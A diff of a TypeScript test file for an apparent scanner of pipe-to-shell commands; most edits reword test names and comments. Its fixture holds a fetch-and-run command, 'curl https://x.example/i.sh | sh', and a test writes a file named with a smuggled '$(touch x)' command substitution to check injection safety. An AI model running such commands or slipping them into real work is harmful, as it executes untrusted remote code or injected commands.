@@ -11,13 +11,13 @@ const BAD = "curl https://x.example/i.sh | sh";
 const VERSION: string = JSON.parse(readFileSync("package.json", "utf8")).version;
 const read = (path: string) => parse(readFileSync(path, "utf8"));
 
-/** A folder with an `npx` that runs this checkout instead of the package of this version. */
+/** A folder with an `npx` that runs the command of this checkout instead of the published package. */
 const tools = folderWith({
   npx: `#!/bin/sh\n[ "$1 $2" = "--yes curlew@${VERSION}" ] || exit 99\nshift 2\nexec ${command.map((word) => `'${word}'`).join(" ")} "$@"\n`,
 });
 chmodSync(join(tools, "npx"), 0o755);
 
-/** Creates a repository whose last commit adds a finding to an older one. */
+/** Creates a repository with an old finding, and with a last commit that adds another finding. */
 function repository(): string {
   const cwd = folderWith({ "old.md": `${BAD}\n`, "a.md": "x\n" });
   const git = (...args: string[]) =>
@@ -58,7 +58,7 @@ describe("action.yml", () => {
   const { inputs, runs } = read("action.yml");
   const [scan, upload, verdict] = runs.steps;
 
-  /** Runs the first and the last step with these inputs. */
+  /** Runs the first and the last step of the action with inputs. */
   function action(
     cwd: string,
     given: Record<string, string> = {},
@@ -96,7 +96,7 @@ describe("action.yml", () => {
     };
   }
 
-  it("annotates, writes SARIF and fails", () => {
+  it("writes annotations and SARIF, and fails if there is a finding", () => {
     const { stdout, found, verdict: end, sarif, status } = action(repository());
     expect([status, found, end]).toEqual([0, "1", 1]);
     expect(
@@ -111,7 +111,7 @@ describe("action.yml", () => {
     expect(JSON.parse(readFileSync(sarif, "utf8")).runs[0].results).toHaveLength(2);
   });
 
-  it("reports changed lines at the lines of the file", () => {
+  it("reports only changed lines, with their line numbers in the file", () => {
     for (const env of [{ GITHUB_BASE_REF: "main" }, {}]) {
       const { found, sarif } = action(repository(), { changed: "true" }, env);
       const [result, ...others] = JSON.parse(readFileSync(sarif, "utf8")).runs[0].results;
@@ -123,7 +123,7 @@ describe("action.yml", () => {
     }
   });
 
-  it("accepts paths, a baseline and arguments with spaces, and only reports on request", () => {
+  it("accepts paths, a baseline and arguments with spaces, and does not fail if this is disabled", () => {
     const cwd = repository();
     writeFileSync(join(cwd, "a b;$(touch x).md"), BAD);
     expect(action(cwd, { paths: "a b;$(touch x).md\n\n" }).stdout.match(/::error/g)).toHaveLength(
@@ -143,7 +143,7 @@ describe("action.yml", () => {
     expect(action(cwd, { baseline: "b.json" })).toMatchObject({ found: "0", verdict: 0 });
   });
 
-  it("uploads by a pinned action, and inserts no input into a script", () => {
+  it("uploads with a pinned action, and inserts no input into a script", () => {
     expect(upload.uses).toMatch(/^github\/codeql-action\/upload-sarif@v\d+$/);
     for (const step of runs.steps) expect(step.run ?? "").not.toContain("${{");
     expect(inputs.version.default).toBe(VERSION);
@@ -151,7 +151,7 @@ describe("action.yml", () => {
 });
 
 describe(".pre-commit-hooks.yaml", () => {
-  it("scans the files that it is given", () => {
+  it("scans the files that pre-commit passes", () => {
     const [hook] = read(".pre-commit-hooks.yaml");
     const cwd = repository();
     expect(shell(`${hook.entry} old.md a.md`, cwd, {})).toMatchObject({
@@ -173,7 +173,7 @@ describe("the template for GitLab", () => {
       ...variables,
     });
 
-  it("writes its artifacts", () => {
+  it("writes the artifacts that it declares", () => {
     const cwd = repository();
     expect(run(cwd, {})).toMatchObject({
       status: 1,
@@ -186,7 +186,7 @@ describe("the template for GitLab", () => {
     expect(job.variables.CURLEW_VERSION).toBe(VERSION);
   });
 
-  it("reports changed lines of a merge request", () => {
+  it("reports only the changed lines of a merge request", () => {
     const cwd = repository();
     const { stdout, status } = run(cwd, {
       CURLEW_CHANGED: "true",
